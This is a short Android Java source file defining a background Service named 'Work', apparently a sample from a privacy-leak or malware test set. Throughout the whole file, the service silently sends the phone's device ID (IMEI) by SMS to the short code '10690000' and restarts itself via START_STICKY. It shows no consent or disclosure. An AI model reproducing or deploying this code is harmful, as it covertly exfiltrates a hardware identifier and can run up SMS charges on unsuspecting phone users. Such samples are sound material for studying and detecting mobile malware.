package cn.privlens.suite.service_commands;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Work extends Service {
    private String id = "";
    @Override
    public int onStartCommand(Intent intent, int flags, int number) {
        SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null);
        id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        return START_STICKY;
    }
    @Override
    public IBinder onBind(Intent intent) { return null; }
}
